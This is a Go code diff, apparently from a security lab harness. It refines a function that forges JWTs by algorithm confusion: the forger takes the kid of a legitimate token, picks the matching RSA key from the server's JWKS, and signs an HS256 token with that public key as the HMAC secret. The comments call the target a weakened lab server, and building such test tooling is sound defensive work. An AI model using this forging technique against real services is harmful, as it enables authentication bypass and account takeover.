@@ -291,11 +291,17 @@ func forgeConfusion(ctx context.Context, env *Env, vars Vars, r *Result) (string
 	if resp.Status != http.StatusOK || len(resp.Body) > maxJWKS {
 		return "", fmt.Errorf("the jwks_uri answered %d (%d bytes)", resp.Status, len(resp.Body))
 	}
-	pemKey, err := PublicKeyPEM(resp.Body)
+	// The key that signed the legitimate token: the weakened server looks
+	// it up by the kid the forged header names.
+	kid := ""
+	if jwt, err := oauth.DecodeJWT(vars[VarAccessToken]); err == nil {
+		kid, _ = jwt.Header["kid"].(string)
+	}
+	pemKey, err := PublicKeyPEM(resp.Body, kid)
 	if err != nil {
 		return "", err
 	}
-	in, err := unsignedInput(map[string]any{"alg": "HS256", "typ": "JWT"}, claims)
+	in, err := unsignedInput(map[string]any{"alg": "HS256", "typ": "JWT", "kid": kid}, claims)
 	if err != nil {
 		return "", err
 	}
@@ -304,16 +310,19 @@ func forgeConfusion(ctx context.Context, env *Env, vars Vars, r *Result) (string
 	return in + "." + base64.RawURLEncoding.EncodeToString(mac.Sum(nil)), nil
 }
 
-// PublicKeyPEM is the first RSA key of a JWKS as PKIX PEM: the bytes a
-// naive verifier holds as "the key", which the alg-confusion lab uses as
-// an HMAC secret.
-func PublicKeyPEM(jwks []byte) ([]byte, error) {
+// PublicKeyPEM is the RSA key kid of a JWKS (the first RSA key when kid
+// is "") as PKIX PEM: the bytes a naive verifier holds as "the key", which
+// the alg-confusion lab uses as an HMAC secret.
+func PublicKeyPEM(jwks []byte, kid string) ([]byte, error) {
 	set, err := jwk.Parse(jwks)
 	if err != nil {
 		return nil, fmt.Errorf("the key set does not parse: %w", err)
 	}
 	for i := range set.Len() {
 		k, _ := set.Key(i)
+		if id, _ := k.KeyID(); kid != "" && id != kid {
+			continue
+		}
 		var pub rsa.PublicKey
 		if jwk.Export(k, &pub) != nil {
 			continue
@@ -324,7 +333,7 @@ func PublicKeyPEM(jwks []byte) ([]byte, error) {
 		}
 		return pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: der}), nil
 	}
-	return nil, errors.New("the key set has no RSA key")
+	return nil, fmt.Errorf("the key set has no RSA key with kid %q", kid)
 }
 
 func replayToken(_ context.Context, _ *Env, vars Vars, r *Result) (string, error) {
